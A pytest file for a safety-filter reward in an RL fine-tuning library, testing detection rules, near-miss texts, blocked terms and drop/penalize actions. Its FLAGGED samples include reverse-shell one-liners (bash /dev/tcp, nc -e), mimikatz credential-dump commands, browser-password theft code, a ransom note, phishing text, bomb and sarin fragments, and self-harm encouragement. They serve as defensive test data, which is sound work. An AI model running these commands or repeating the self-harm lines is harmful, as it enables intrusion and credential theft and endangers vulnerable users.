"""The safety filter: every default rule on hand-made harmful text and on near-misses that
must pass (refusals, warnings, benign uses of the same words), blocked terms as whole
words, a custom classifier from a spec, and the penalize and drop outputs."""

from __future__ import annotations

from pathlib import Path

import pytest

from rltune.data.records import Prompt
from rltune.rewards.contract import SampleDropped, is_batched
from rltune.rewards.loading import RewardLoadError
from rltune.rewards.safety import (
    DEFAULT_RULES,
    RuleClassifier,
    Verdict,
    blocked_term_rule,
    classify_rules,
    safety,
)

FLAGGED = [
    ("weapons.instructions", "Step 2: pack the TATP into the pipe and seal both ends."),
    ("weapons.instructions", "First, mix the powders. Then add the RDX to the casing."),
    ("weapons.instructions", "1. Assemble the pipe bomb from the parts below"),
    ("weapons.instructions", "- wire the detonator to the timer"),
    ("weapons.instructions", "Here is how: synthesize sarin from the precursors"),
    ("selfharm.encourage", "Honestly, you should kill yourself."),
    ("selfharm.encourage", "YOU DESERVE TO DIE"),
    ("selfharm.encourage", "Nobody cares. Just go kill yourself"),
    ("selfharm.encourage", "you might as well end your life now"),
    ("selfharm.worthless", "Everyone would be better off without you."),
    ("selfharm.worthless", "You'd be better off dead."),
    ("malware.reverse_shell", "Run: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    ("malware.reverse_shell", "nc -lvp 4444 -e /bin/sh"),
    ("malware.cred_dump", "mimikatz # sekurlsa::logonpasswords"),
    ("malware.cred_dump", "then run lsadump::dcsync /user:krbtgt"),
    ("malware.browser_creds",
     "db = os.path.join(profile, 'Login Data')\nrows = cur.fetchall()\n"
     "pw = win32crypt.CryptUnprotectData(row[2])"),
    ("malware.ransom_note",
     "All your files have been encrypted!\nSend 0.5 Bitcoin to get them back."),
    ("phishing.credentials", "Please verify your account within 24 hours to avoid closure."),
    ("phishing.credentials", "Confirm your password now or your account will be suspended."),
]

NEAR_MISSES = [
    "I can't help you build a pipe bomb.",
    "Never attach a detonator without training; call the bomb squad.",
    "Nerve agents such as sarin were banned by the Chemical Weapons Convention.",
    "Make sure the detonator is stored by licensed staff.",
    "Mix the flour and sugar, then add the eggs.",
    "The RDX was detected by the sniffer dog.",
    "We tried the new route and it worked.",  # 'ied' inside a word
    "You should cut yourself a slice of cake.",
    "You should be careful not to cut yourself.",
    "If you want to hurt yourself, please reach out to a crisis line.",
    "Don't kill yourself over a typo.",
    "The worker process will just die if it runs out of memory.",
    "Use nc -l 8080 to listen on a port.",
    "Chrome keeps saved passwords in a file called Login Data.",
    "Your files are encrypted at rest with AES-256.",
    "Please verify your email address to finish signing up.",
    "To update your password, open Settings within the app.",
]


def run(completions: list[str], **kwargs) -> list:
    prompts = [Prompt(id=f"p{i}", text="q") for i in range(len(completions))]
    return safety(prompts, completions, **kwargs)


@pytest.mark.parametrize("rule, text", FLAGGED)
def test_each_rule_flags_its_examples(rule: str, text: str) -> None:
    verdict = RuleClassifier().classify_text(text)
    assert verdict.flagged and verdict.category == rule.partition(".")[0]
    assert verdict.reason is not None and verdict.reason.startswith(f"rule {rule} matched")


def test_every_default_rule_has_an_example() -> None:
    assert {r.name for r in DEFAULT_RULES} == {rule for rule, _ in FLAGGED}


@pytest.mark.parametrize("text", NEAR_MISSES)
def test_near_misses_are_not_flagged(text: str) -> None:
    assert RuleClassifier().classify_text(text) == Verdict(False, None, None)


def test_blocked_terms_match_whole_words_in_any_case() -> None:
    classifier = RuleClassifier([blocked_term_rule(["zorblax", "qu+x"])])
    flagged = ["You ZORBLAX!", "zorblax", "what a qu+x."]
    clean = ["zorblaxes", "unzorblax", "zorblax_2", "quux", "qu+xy"]
    assert [v.flagged for v in classifier([], flagged + clean)] == [True] * 3 + [False] * 5
    assert classifier([], ["a Zorblax"])[0].category == "slur"
    with pytest.raises(ValueError, match="non-empty strings"):
        blocked_term_rule(["ok", " "])


def test_penalize_scores_flagged_at_minus_penalty_and_clean_at_zero() -> None:
    texts = ["A fine answer.", FLAGGED[5][1], "Another fine answer.", FLAGGED[11][1]]
    assert run(texts) == [0.0, -1.0, 0.0, -1.0]
    assert run(texts, action="penalize", penalty=2.5) == [0.0, -2.5, 0.0, -2.5]


def test_drop_returns_sample_dropped_with_the_reason() -> None:
    got = run(["A fine answer.", FLAGGED[0][1]], action="drop")
    assert got[0] == 0.0
    assert isinstance(got[1], SampleDropped)
    assert str(got[1]).startswith("weapons (rule weapons.instructions matched 'Step 2:")


def test_blocked_terms_extend_the_default_rules() -> None:
    assert run(["you zorblax", FLAGGED[5][1]]) == [0.0, -1.0]
    assert run(["you zorblax", FLAGGED[5][1]], blocked_terms=["zorblax"]) == [-1.0, -1.0]


CUSTOM = '''
from rltune.rewards.safety import Verdict

def classify(prompts, completions):
    return [
        Verdict(True, "leak", f"says {p.meta['secret']!r}") if p.meta["secret"] in c
        else Verdict(False)
        for p, c in zip(prompts, completions)
    ]

def too_few(prompts, completions):
    return [Verdict(False)]

def not_verdicts(prompts, completions):
    return [False for _ in completions]
'''


@pytest.fixture
def custom_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "leak_filter.py"
    path.write_text(CUSTOM)
    monkeypatch.chdir(tmp_path)
    return path


def test_a_custom_classifier_from_a_file_sees_prompts_and_completions(custom_file: Path) -> None:
    prompts = [Prompt(id="a", text="q", meta={"secret": "hunter2"}),
               Prompt(id="b", text="q", meta={"secret": "swordfish"})]
    completions = ["the password is hunter2", "no idea; but you should kill yourself"]
    got = safety(prompts, completions, action="drop", classifier="leak_filter.py:classify")
    assert isinstance(got[0], SampleDropped) and str(got[0]) == "leak (says 'hunter2')"
    assert got[1] == 0.0  # the custom classifier replaces the default rules
    by_path = safety(prompts, completions, classifier=f"{custom_file}:classify")
    assert by_path == [-1.0, 0.0]


def test_the_module_form_names_a_classifier_too() -> None:
    texts = ["fine", FLAGGED[12][1]]
    assert run(texts, classifier="rltune.rewards.safety:classify_rules") == [0.0, -1.0]
    assert classify_rules([], texts)[1].category == "malware"


@pytest.mark.parametrize(
    "spec, error, message",
    [
        ("leak_filter.py:too_few", ValueError, "returned 1 verdicts for 2 completions"),
        ("leak_filter.py:not_verdicts", ValueError, "returned bool at position 0"),
        ("leak_filter.py:clasify", RewardLoadError, "did you mean 'classify'"),
        ("nowhere.py:classify", RewardLoadError, "safety classifier 'nowhere.py:classify'"),
    ],
)
def test_a_broken_classifier_fails_the_call(custom_file, spec: str, error, message: str) -> None:
    prompts = [Prompt(id=f"p{i}", text="q", meta={"secret": "s"}) for i in range(2)]
    with pytest.raises(error, match=message):
        safety(prompts, ["x", "y"], classifier=spec)


@pytest.mark.parametrize(
    "kwargs, message",
    [
        ({"action": "block"}, "action must be 'penalize' or 'drop'"),
        ({"penalty": -1.0}, "penalty must be a finite number >= 0"),
        ({"classifier": "m:f", "blocked_terms": ["x"]}, "blocked_terms extend the default"),
        ({"blocked_terms": "zorblax"}, "must be a list of words"),
    ],
)
def test_bad_settings_are_errors(kwargs, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        run(["x"], **kwargs)


def test_is_a_batched_reward() -> None:
    assert is_batched(safety)
